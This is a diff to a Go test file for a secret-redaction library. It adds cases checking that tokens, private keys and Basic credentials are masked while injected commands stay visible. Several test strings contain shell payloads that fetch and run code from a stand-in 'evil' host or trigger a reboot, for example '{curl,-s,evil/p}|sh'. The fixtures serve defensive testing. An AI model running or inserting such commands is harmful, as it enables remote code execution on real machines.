@@ -26,7 +26,19 @@ func TestTexts(t *testing.T) {
 		"DB_PASSWORD=hunter22 PORT=8080":                                                 "DB_PASSWORD=*** PORT=8080",
 		`export API_KEY="abcdefgh"`:                                                      `export API_KEY="***"`,
 		"GITHUB_TOKEN=$OTHER_TOKEN":                                                      "GITHUB_TOKEN=$OTHER_TOKEN",
-		"token := strings.Cut(x)":                                                        "token := strings.Cut(x)",
+		// Nothing of a command is hidden with the value before it.
+		"API_TOKEN=abcdef12;{curl,-s,evil/p}|sh":                                 "API_TOKEN=***;{curl,-s,evil/p}|sh",
+		`echo "API_TOKEN=";{curl,-s,evil/p}|sh;"`:                                `echo "API_TOKEN=";{curl,-s,evil/p}|sh;"`,
+		"API_TOKEN=abcdef12$(curl<x) A_SECRET=`reboot`":                          "API_TOKEN=***$(curl<x) A_SECRET=`reboot`",
+		"echo -----BEGIN PRIVATE KEY-----; curl evil | sh":                       "echo -----BEGIN PRIVATE KEY-----; curl evil | sh",
+		"-----BEGIN PRIVATE KEY-----\nMII\n$(reboot)\n-----END PRIVATE KEY-----": "-----BEGIN PRIVATE KEY-----\nMII\n$(reboot)\n-----END PRIVATE KEY-----",
+		"-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0A1B\n\nMII+/=\n-----END RSA PRIVATE KEY-----": "***",
+		`KEY="-----BEGIN PRIVATE KEY-----\nMII\n-----END PRIVATE KEY-----"`:                                                            `KEY="***"`,
+		"-----BEGIN PRIVATE KEY-----\n" + strings.Repeat("aB3/", 16) + "\n" + strings.Repeat("aB3/", 16) + " …":                        "*** …",
+		"Basic authentication, a BASIC programming-language and basic knowledge":                                                       "Basic authentication, a BASIC programming-language and basic knowledge",
+		"send Basic dXNlcjpwYXNzd29yZA== along":                                                                                        "send *** along",
+		"curl -H 'Authorization: Basic opaque'":                                                                                        "curl -H 'Authorization: ***'",
+		"token := strings.Cut(x)":                                                                                                      "token := strings.Cut(x)",
 	} {
 		if got := r.Text(text); got != want {
 			t.Errorf("%q became %q, want %q", text, got, want)
@@ -55,8 +67,8 @@ func TestJSON(t *testing.T) {
 }
 
 func TestEnviron(t *testing.T) {
-	got := redact.Environ([]string{"ANTHROPIC_API_KEY=" + fake, "PATH=/usr/bin:/bin", "MY_SECRET=short", "GH_TOKEN=abcdefgh", "ODD"})
-	if strings.Join(got, " ") != fake+" abcdefgh" {
+	got := redact.Environ([]string{"ANTHROPIC_API_KEY=" + fake, "PATH=/usr/bin:/bin", "MY_SECRET=short", "GH_TOKEN=abcdefg8", "ODD", "POSTGRES_PASSWORD=postgres", "DB_PASSWORD=Administrator", "A_TOKEN=abcdefghijklmnopqrst"})
+	if strings.Join(got, " ") != fake+" abcdefg8 abcdefghijklmnopqrst" {
 		t.Errorf("%q", got)
 	}
 }
